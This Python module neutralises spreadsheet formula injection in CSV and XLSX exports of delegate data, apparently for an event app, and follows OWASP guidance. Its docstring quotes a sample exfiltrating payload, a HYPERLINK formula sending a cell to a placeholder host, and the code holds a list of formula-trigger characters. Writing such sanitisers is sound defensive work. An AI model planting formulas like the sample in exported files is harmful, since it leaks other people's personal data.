"""Text written to a spreadsheet stays text, whatever a delegate typed.

A name, organisation or note beginning with ``=``, ``+``, ``-`` or ``@`` (or a
tab or carriage return, which spreadsheet programs skip before looking) is
read as a formula when the file is opened: ``=HYPERLINK("http://x/?"&C2,"a")``
sends another delegate's cell to whoever wrote it. Every export writes its
cells through this module, following OWASP's guidance on CSV injection
(https://owasp.org/www-community/attacks/CSV_Injection):

- CSV: every field between double quotes, and a text that starts like a
  formula gets a single quote in front, which spreadsheet programs read as
  "this is text". That quote is the only change: a hyphen inside a text
  (``Jean-Pierre``) is left alone, and numbers Majlis itself writes (counts,
  capacities) stay numbers. A text that happens to read as a negative number
  (``-5``) is quoted too: OWASP's rule has no exception for it, and none is
  needed for the names, organisations and notes people type.
- XLSX: nothing is added to the text. A cell whose text starts like a formula
  is stored as a string, never as a formula, with Excel's quote-prefix style
  so that editing the cell keeps it text.
"""

import csv
from collections.abc import Iterable
from datetime import datetime
from typing import TYPE_CHECKING, Protocol

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

Value = str | int | float | datetime | None


class _TextSink(Protocol):
    def write(self, text: str, /) -> object: ...


def starts_like_formula(value: object) -> bool:
    """Whether a spreadsheet program could read ``value`` as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: Value) -> Value:
    """``value`` as a CSV field that a spreadsheet reads as text, not a formula."""
    if starts_like_formula(value):
        return "'" + str(value)
    return value


class SpreadsheetCsvWriter:
    """``csv.writer`` for files people open in a spreadsheet program: every
    field quoted, every formula-like text made text (``csv_cell``)."""

    def __init__(self, sink: _TextSink) -> None:
        self._writer = csv.writer(sink, quoting=csv.QUOTE_ALL)

    def writerow(self, row: Iterable[Value]) -> None:
        self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Value]]) -> None:
        for row in rows:
            self.writerow(row)


def xlsx_append(sheet: "Worksheet", row: Iterable[Value]) -> None:
    """Append ``row`` to ``sheet``, every formula-like text kept a string cell.

    openpyxl stores a string beginning with ``=`` as a formula; its cell is
    turned back into a string cell here.
    """
    values = list(row)
    sheet.append(values)
    for cell, value in zip(sheet[sheet.max_row], values, strict=False):
        if starts_like_formula(value):
            cell.data_type = "s"
            cell.quotePrefix = True
